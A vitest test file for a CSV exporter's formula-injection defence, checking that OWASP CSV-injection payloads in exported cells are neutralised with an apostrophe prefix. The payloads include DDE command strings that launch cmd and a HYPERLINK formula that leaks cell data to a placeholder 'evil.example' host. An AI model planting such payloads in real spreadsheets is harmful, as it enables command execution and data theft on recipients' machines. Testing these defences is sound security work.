import { describe, expect, test } from "vitest";
import fc from "fast-check";
import { FORMULA_TRIGGERS, grants360Rows, isPlainNumber, mentionRows, neutraliseFormula, projectRows } from "@fundtrace/exporter";
import { amount, mention, project } from "./fixtures.js";

/** Payloads from OWASP's CSV Injection page, plus tab- and CR-prefixed variants. */
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\t",
  "-",
];

describe("neutraliseFormula", () => {
  test.each(OWASP_PAYLOADS)("prefixes an apostrophe to %j", (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  test.each(["5000000", "-5", "+5", "1.5", "-0.25", "1e6"])("leaves the number %j alone", (n) => {
    expect(isPlainNumber(n)).toBe(true);
    expect(neutraliseFormula(n)).toBe(n);
  });

  test.each(["Hackney Council", "", "£5m", "'=already", " =1+2", "a=b"])("leaves ordinary text %j alone", (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  test("no neutralised cell starts with a trigger, unless it is a plain number; applying it twice changes nothing", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), fc.constantFrom(...FORMULA_TRIGGERS, ""), (rest, lead) => {
        const cell = neutraliseFormula(lead + rest);
        expect(FORMULA_TRIGGERS.includes(cell.charAt(0)) && !isPlainNumber(cell)).toBe(false);
        expect(neutraliseFormula(cell)).toBe(cell);
      }),
    );
  });
});

describe("row builders neutralise by default", () => {
  const hostile = project({
    name: "=cmd|' /C calc'!A0",
    funder: "@SUM(1+1)*cmd|' /C calc'!A0",
    round: "-2+3+cmd|' /C calc'!A0",
    places: [{ name: "+HYPERLINK(\"http://evil\")", gss: null }],
    amount: amount({ value: 250_000 }),
  });

  test("projectRows: formula cells get an apostrophe, the amount stays numeric", () => {
    const [row] = projectRows([hostile]);
    expect(row?.[1]).toBe("'=cmd|' /C calc'!A0");
    expect(row?.[8]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row?.[10]).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(row?.[12]).toBe("'+HYPERLINK(\"http://evil\")");
    expect(row?.[4]).toBe("250000");
  });

  test("{ neutraliseFormulas: false } gives the raw values", () => {
    const [row] = projectRows([hostile], { neutraliseFormulas: false });
    expect(row?.[1]).toBe("=cmd|' /C calc'!A0");
    expect(row?.[12]).toBe("+HYPERLINK(\"http://evil\")");
  });

  test("mentionRows neutralises the passage text", () => {
    const text = "=1+2\";=1+2 is what Hackney Council got";
    const [row] = mentionRows([mention({ end: text.length })], () => text);
    expect(row?.at(-1)).toBe(`'${text}`);
    const [raw] = mentionRows([mention({ end: text.length })], () => text, { neutraliseFormulas: false });
    expect(raw?.at(-1)).toBe(text);
  });

  test("grants360Rows neutralises too", () => {
    const grant = {
      id: "360G-x-1", title: "=cmd|' /C calc'!A0", description: "d", currency: "GBP", amountAwarded: 5, awardDate: "2020-01-01",
      recipientOrganization: [{ id: "a", name: "b" }], fundingOrganization: [{ id: "c", name: "d" }],
    };
    expect(grants360Rows({ grants: [grant] })[0]?.[1]).toBe("'=cmd|' /C calc'!A0");
    expect(grants360Rows({ grants: [grant] }, { neutraliseFormulas: false })[0]?.[1]).toBe("=cmd|' /C calc'!A0");
  });
});
